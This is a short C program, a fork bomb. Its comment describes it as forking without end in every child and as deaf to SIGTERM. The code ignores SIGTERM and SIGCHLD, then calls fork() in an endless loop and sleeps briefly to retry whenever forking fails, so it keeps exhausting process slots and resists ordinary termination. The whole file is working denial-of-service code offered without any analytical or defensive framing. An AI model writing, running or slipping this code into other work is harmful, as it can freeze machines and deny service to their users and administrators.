/* Forks without end, every child too, and deaf to SIGTERM; where nothing more can be forked it tries again a little
 * later. */
#include <signal.h>
#include <unistd.h>

int main(void) {
        signal(SIGTERM, SIG_IGN);
        signal(SIGCHLD, SIG_IGN);
        for (;;)
                if (fork() < 0)
                        usleep(20000);
}
